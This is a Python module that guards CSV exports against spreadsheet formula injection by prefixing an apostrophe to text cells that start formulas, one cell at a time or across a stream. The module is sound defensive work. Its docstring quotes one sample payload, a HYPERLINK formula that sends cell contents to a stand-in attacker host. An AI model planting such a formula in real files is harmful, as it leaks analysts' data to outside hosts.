"""CSV cells a spreadsheet opens as text, never as a formula (CWE-1236, "CSV injection").

Page titles, display names, goals and referrer hosts come from anyone who can send an event: a title such as
``=HYPERLINK("http://evil.example/?"&A1,"Open")`` would run in the analyst's spreadsheet. A text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets an apostrophe in front (OWASP's advice; the
spreadsheet shows the text and hides the apostrophe); numbers (``-5``, ``+1.5e3``) stay numbers.

:func:`neutralised` does one cell (the Wagtail admin's exports); :class:`CsvNeutraliser` rewrites a CSV stream
chunk by chunk, in time linear in its length (the reporting server's ``.csv`` exports).
"""

from __future__ import annotations

import codecs
import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER_RE = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_QUOTE_OR_NEWLINE_RE = re.compile(r'["\n]')


def neutralised(value):
    """``value`` as a spreadsheet should show it: text that would start a formula gets an apostrophe in front."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER_RE.fullmatch(value):
        return "'" + value
    return value


class CsvNeutraliser:
    """Rewrites CSV (UTF-8 bytes, RFC 4180 quoting as Python's csv module writes it) with every cell neutralised.

    ``feed`` takes the next chunk and returns the records it completed, rewritten; ``close`` returns the rest.
    A record ends at a newline outside quotes: an even number of ``"`` before it in the record.
    """

    def __init__(self):
        self._decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
        self._pending: list[str] = []  # the text of the record under way
        self._quotes_odd = False

    def feed(self, chunk: bytes) -> bytes:
        text = self._decoder.decode(chunk)
        end = 0  # where the complete records of ``text`` end
        for match in _QUOTE_OR_NEWLINE_RE.finditer(text):
            if match[0] == '"':
                self._quotes_odd = not self._quotes_odd
            elif not self._quotes_odd:
                end = match.end()
        if not end:
            self._pending.append(text)
            return b""
        complete = "".join(self._pending) + text[:end]
        self._pending = [text[end:]]
        return _rewritten(complete)

    def close(self) -> bytes:
        rest = "".join(self._pending) + self._decoder.decode(b"", final=True)
        self._pending = []
        if self._quotes_odd:  # cut inside quotes (a stream cut short, never Datasette's writing): as it came
            return rest.encode()
        return _rewritten(rest) if rest else b""


def _rewritten(text: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    for row in csv.reader(io.StringIO(text, newline="")):
        writer.writerow([neutralised(cell) for cell in row])
    if not text.endswith("\n"):  # the last record had no line end: add none
        return out.getvalue().removesuffix("\r\n").encode()
    return out.getvalue().encode()
